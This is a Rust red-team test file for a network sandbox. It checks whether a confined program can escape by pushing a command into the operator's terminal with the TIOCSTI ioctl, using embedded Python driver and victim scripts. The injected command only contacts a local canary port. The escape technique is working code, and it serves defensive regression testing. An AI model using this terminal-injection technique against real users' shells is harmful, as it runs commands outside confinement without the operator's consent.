//! Red team, second round: attacks that got out of a confinement on main.
//!
//! Each test runs its attack unconfined first (the canary must be reached, so the attack
//! itself works) and then confined under the policy that should refuse it. Each one FAILS
//! while the attack still gets out: the assertion is that the confined run reaches nothing.

use std::time::Duration;

use netjail_integration_tests::{netjail_bin, run, Canary, Outcome};

use crate::{have_setpriv, need_python, need_root, NOBODY};

const WAIT: Duration = Duration::from_secs(5);

// ---- rt2_tiocsti: typing into the operator's terminal -----------------------------------------

/// The confined program: checks that its own connect to the canary is refused (so it is
/// confined), then pushes a command line into its controlling terminal with `TIOCSTI`.
const TIOCSTI_VICTIM: &str = r#"
import fcntl, json, socket, sys, termios
port = int(sys.argv[1])
try:
    socket.create_connection(("127.0.0.1", port), timeout=2).close()
    direct = "ok"
except OSError as e:
    direct = e.errno
line = "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", %d)).send(b\"typed\")'\n" % port
pushed = 0
for ch in line:
    try:
        fcntl.ioctl(0, termios.TIOCSTI, ch.encode())
        pushed += 1
    except OSError:
        break
print(json.dumps({"direct": direct, "pushed": pushed, "len": len(line)}), file=sys.stderr, flush=True)
"#;

/// A stand-in for an operator's interactive shell: a pseudo-terminal that is the controlling
/// terminal of `sh`, which runs the (confined or not) victim and then reads and runs the next
/// line typed at it, as a shell prompt does once the program ends.
const TIOCSTI_DRIVER: &str = r#"
import os, pty, subprocess, sys, threading, fcntl, termios
victim, port, interp, prefix = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4:]
master, slave = pty.openpty()
def ctty():
    os.setsid()
    fcntl.ioctl(0, termios.TIOCSCTTY, 0)
quoted = " ".join("'" + a.replace("'", "'\\''") + "'" for a in prefix + [interp, "-c", victim, port])
script = quoted + '; read -r line; eval "$line"'
p = subprocess.Popen(["sh", "-c", script], stdin=slave, stdout=slave, stderr=subprocess.PIPE, preexec_fn=ctty)
os.close(slave)
def drain():
    try:
        while os.read(master, 4096):
            pass
    except OSError:
        pass
threading.Thread(target=drain, daemon=True).start()
try:
    rc = p.wait(timeout=20)
except subprocess.TimeoutExpired:
    p.kill(); rc = "timeout"
sys.stderr.write(p.stderr.read().decode(errors="replace"))
print(rc)
"#;

/// A python3 that `nobody` may run: the system's where there is one (a pyenv interpreter
/// under `/root` is closed to other users).
fn nobody_python(py: &str) -> String {
    let system = std::path::Path::new("/usr/bin/python3");
    if system.is_file() {
        return system.to_string_lossy().into_owned();
    }
    py.to_owned()
}

fn tiocsti_run(py: &str, port: &str, prefix: &[&str]) -> Outcome {
    let mut cmd = std::process::Command::new(py);
    cmd.args([
        "-c",
        TIOCSTI_DRIVER,
        TIOCSTI_VICTIM,
        port,
        &nobody_python(py),
    ])
    .args(prefix);
    run(&mut cmd, Duration::from_secs(40))
}

/// Escape: under `deny-all` (and `loopback-only`, `disablenetwork`, every profile without
/// `ioctl = "safe-list"`) a confined program started from an interactive terminal pushes a
/// command line into that terminal with `TIOCSTI`; the operator's shell runs it once the
/// program ends, outside every confinement, and it reaches the canary. `netjail run` keeps the
/// caller's session and controlling terminal (no `setsid`), and `ioctl = "any"` is the default.
#[test]
fn rt2_tiocsti_deny_all_types_into_the_operators_shell() {
    let test = "rt2_tiocsti_deny_all_types_into_the_operators_shell";
    if !need_root(test) || !have_setpriv(test) {
        return;
    }
    let Some(py) = need_python(test) else {
        return;
    };
    let canary = Canary::tcp4();
    let port = canary.port_str();

    let out = tiocsti_run(&py, &port, &[]);
    assert!(
        canary.wait_count(1, WAIT) >= 1,
        "unconfined, the typed line must reach the canary: {}",
        out.describe()
    );

    let netjail = netjail_bin();
    let netjail = netjail.to_str().expect("utf-8 path");
    let before = canary.count();
    let nobody = format!("--reuid={NOBODY}");
    let nogroup = format!("--regid={NOBODY}");
    let prefix = [
        "setpriv",
        nobody.as_str(),
        nogroup.as_str(),
        "--clear-groups",
        "--",
        netjail,
        "run",
        "--policy",
        "deny-all",
        "--",
    ];
    let out = tiocsti_run(&py, &port, &prefix);
    let err = &out.stderr;
    assert!(
        err.contains("\"direct\": 1"),
        "the victim must be confined (its own connect refused): {}",
        out.describe()
    );
    assert_eq!(
        canary.settled_count(),
        before,
        "a deny-all sandbox typed a command into its terminal that reached the canary: {}",
        out.describe()
    );
}
